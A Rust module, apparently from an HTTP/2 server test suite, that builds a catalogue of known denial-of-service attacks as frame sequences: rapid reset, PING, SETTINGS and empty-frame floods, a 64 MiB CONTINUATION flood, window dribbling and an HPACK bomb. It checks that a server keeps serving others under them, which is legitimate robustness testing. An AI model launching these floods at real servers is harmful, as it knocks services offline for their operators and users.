//! The attacks.

use crate::case::Case;
use crate::judge::words::others_served;
use crate::wire::build::*;
use crate::wire::code::error::CANCEL;
use crate::wire::code::{setting, DEFAULT_FRAME_SIZE, MAX_WINDOW};
use crate::wire::{hpack, Frame};

use super::GROWTH;

/// The topic of the attacks. No file of the catalogue has that name.
pub const TOPIC: &str = "abuse";

/// Streams that stay open. Few servers allow less.
const OPEN: u32 = 100;
/// Requests of an attack whose requests cost the server something each.
const REQUESTS: u32 = 4_000;

/// A field without a name and a value, each of which says that it is in Huffman code.
const NAMELESS: [u8; 3] = [0, 0x80, 0x80];
/// A reference to the newest field of the dynamic table (RFC 7541 section 6.1).
const NEWEST: u8 = 0x80 | 62;
/// A reference to `:method: GET`.
const METHOD_ALONE: u8 = 0x80 | 2;

/// One attack.
pub(super) struct Attack {
    id: &'static str,
    title: &'static str,
    /// The peer's first SETTINGS.
    pub(super) settings: fn() -> Frame,
    /// Frames that are sent once.
    pub(super) begin: fn() -> Vec<Frame>,
    /// Frames that are sent again and again, the first time with 0.
    pub(super) repeat: fn(u32) -> Vec<Frame>,
    pub(super) times: u32,
    /// Whether the peer reads meanwhile.
    pub(super) reads: bool,
    /// Octets of a response below which the attack asks for nothing.
    pub(super) content: u64,
}

impl Attack {
    const NONE: Attack = Attack {
        id: "",
        title: "",
        settings,
        begin: Vec::new,
        repeat: |_| Vec::new(),
        times: 1,
        reads: true,
        content: 0,
    };
}

/// All attacks as cases, in the order in which they are made.
#[must_use]
pub fn cases() -> Vec<Case> {
    let case = |attack: &Attack| Case {
        id: attack.id,
        title: attack.title,
        requires: &["rfc9113/10.5/limits"],
        expect: others_served(GROWTH),
        ..Case::DEFAULT
    };
    ATTACKS.iter().map(case).collect()
}

/// The attack of that case.
pub(super) fn of(case: &Case) -> Option<&'static Attack> {
    ATTACKS.iter().find(|attack| attack.id == case.id)
}

const ATTACKS: &[Attack] = &[
    Attack {
        id: "abuse/rapid-reset",
        title: "4000 requests, each reset at once (CVE-2023-44487)",
        repeat: |n| vec![get(1 + 2 * n), reset(1 + 2 * n, CANCEL)],
        times: REQUESTS,
        ..Attack::NONE
    },
    Attack {
        id: "abuse/made-you-reset",
        title: "4000 requests, each with an error that has the server reset it (CVE-2025-8671)",
        repeat: |n| vec![post(1 + 2 * n), window_update(1 + 2 * n, 0)],
        times: REQUESTS,
        ..Attack::NONE
    },
    Attack {
        id: "abuse/unread-resets",
        title: "4 million malformed requests, and the peer does not read the resets (CVE-2019-9514)",
        repeat: |n| vec![headers_block(1 + 2 * n, vec![METHOD_ALONE]).end_stream()],
        times: 4_000_000,
        reads: false,
        ..Attack::NONE
    },
    Attack {
        id: "abuse/ping",
        title: "3 million PINGs, and the peer does not read the answers (CVE-2019-9512)",
        repeat: |_| vec![ping([7; 8])],
        times: 3_000_000,
        reads: false,
        ..Attack::NONE
    },
    Attack {
        id: "abuse/settings",
        title: "6 million SETTINGS, and the peer does not read the acknowledgements (CVE-2019-9515)",
        repeat: |_| vec![settings()],
        times: 6_000_000,
        reads: false,
        ..Attack::NONE
    },
    Attack {
        id: "abuse/window-sizes",
        title: "5000 changes of the initial window, with 100 streams open",
        settings: || settings().with(setting::INITIAL_WINDOW_SIZE, 0),
        begin: open_requests,
        repeat: |n| vec![settings().with(setting::INITIAL_WINDOW_SIZE, n % 2)],
        times: 5_000,
        ..Attack::NONE
    },
    Attack {
        id: "abuse/priority",
        title: "100 000 PRIORITY frames that move 100 streams about (CVE-2019-9513)",
        repeat: |n| vec![moved(1 + 2 * (n % OPEN), 1 + 2 * ((n * 7 + 1) % OPEN))],
        times: 100_000,
        ..Attack::NONE
    },
    Attack {
        id: "abuse/dribble",
        title: "100 responses, of which 10 000 WINDOW_UPDATEs ask for an octet each (CVE-2019-9511)",
        settings: || settings().with(setting::INITIAL_WINDOW_SIZE, 0),
        begin: open_requests,
        repeat: |n| vec![window_update(1 + 2 * (n % OPEN), 1)],
        times: 10_000,
        content: 100,
        ..Attack::NONE
    },
    Attack {
        id: "abuse/unread-responses",
        title: "2000 requests with open windows, and the peer does not read (CVE-2019-9517)",
        settings: || settings().with(setting::INITIAL_WINDOW_SIZE, MAX_WINDOW),
        begin: || vec![window_update(0, MAX_WINDOW - 65_535)],
        repeat: |n| vec![get(1 + 2 * n)],
        times: 2_000,
        reads: false,
        content: 1_000,
    },
    Attack {
        id: "abuse/window-held",
        title: "100 requests whose windows stay at 0",
        settings: || settings().with(setting::INITIAL_WINDOW_SIZE, 0),
        begin: open_requests,
        ..Attack::NONE
    },
    Attack {
        id: "abuse/empty-data",
        title: "A million empty DATA frames (CVE-2019-9518)",
        begin: || vec![post(1)],
        repeat: |_| vec![data(1, 0)],
        times: 1_000_000,
        ..Attack::NONE
    },
    Attack {
        id: "abuse/continuation",
        title: "A field block of 64 MiB that does not end (CVE-2024-27316)",
        begin: || vec![post(1).continues(), continuation(1, hpack::encode(&[("filler", "")])).continues()],
        // The same field again and again: without indexing, and with a value of some octets.
        repeat: |_| {
            let field = hpack::encode(&[("filler", &"x".repeat(1_000))]);
            vec![continuation(1, field.repeat(DEFAULT_FRAME_SIZE / field.len())).continues()]
        },
        times: 4_096,
        ..Attack::NONE
    },
    Attack {
        id: "abuse/empty-continuation",
        title: "A million empty CONTINUATION frames (CVE-2019-9518)",
        begin: || vec![post(1).continues()],
        repeat: |_| vec![continuation(1, Vec::new()).continues()],
        times: 1_000_000,
        ..Attack::NONE
    },
    Attack {
        id: "abuse/nameless-fields",
        title: "90 000 fields without name and value in 200 requests (CVE-2019-9516)",
        repeat: |n| vec![with_fields(1 + 2 * n, &NAMELESS.repeat(450))],
        times: 200,
        ..Attack::NONE
    },
    Attack {
        id: "abuse/hpack-bomb",
        title: "40 requests, each of which names a field of 4000 octets 10 000 times (CVE-2016-6581)",
        begin: || {
            let mut field = Vec::new();
            hpack::indexed_literal(&mut field, "x", &"x".repeat(4_000));
            vec![with_fields(1, &field)]
        },
        repeat: |n| vec![with_fields(3 + 2 * n, &[NEWEST; 10_000])],
        times: 40,
        ..Attack::NONE
    },
];

fn open_requests() -> Vec<Frame> {
    (0..OPEN).map(|n| get(1 + 2 * n)).collect()
}

/// A request with more fields, encoded.
fn with_fields(stream: u32, fields: &[u8]) -> Frame {
    let mut request = get(stream);
    request.payload.extend(fields);
    request
}

/// A PRIORITY frame that has the stream depend on that one.
fn moved(stream: u32, parent: u32) -> Frame {
    let [a, b, c, d] = parent.to_be_bytes();
    priority(stream).payload(&[a, b, c, d, 15])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn octets(frames: &[Frame]) -> u64 {
        frames.iter().map(|frame| frame.payload.len() as u64 + 9).sum()
    }

    #[test]
    fn an_attack_is_named_once_and_bounded() {
        let mut ids: Vec<&str> = cases().iter().map(|case| case.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), ATTACKS.len());
        assert!(crate::catalog::all().iter().all(|other| other.topic() != TOPIC));
        for case in cases() {
            assert_eq!(case.topic(), TOPIC);
            let attack = of(&case).expect("an attack");
            let sent = octets(&(attack.begin)()) + octets(&(attack.repeat)(0)) * u64::from(attack.times);
            assert!(sent > 1_000 && sent < 70 << 20, "{}: {sent}", case.id);
        }
    }

    /// A server that keeps all that it is sent, or all its answers, grows beyond the limit.
    #[test]
    fn floods_are_larger_than_the_growth_that_is_allowed() {
        for (id, each) in
            [("abuse/continuation", 16_000), ("abuse/ping", 17), ("abuse/settings", 9), ("abuse/unread-resets", 13)]
        {
            let case = cases().into_iter().find(|case| case.id == id).expect("an attack");
            let kept = u64::from(of(&case).expect("an attack").times) * each;
            assert!(kept > GROWTH + GROWTH / 4, "{id}: {kept}");
        }
    }

    #[test]
    fn one_request_of_the_bomb_takes_40_megabytes() {
        let bomb = ATTACKS.iter().find(|attack| attack.id == "abuse/hpack-bomb").expect("the bomb");
        let mut decoder = hpack::Decoder::default();
        decoder.decode(&(bomb.begin)()[0].payload).expect("the first request");
        let fields = decoder.decode(&(bomb.repeat)(0)[0].payload).expect("the second request");
        assert!(fields.iter().map(|field| field.1.len()).sum::<usize>() >= 40_000_000);
    }
}
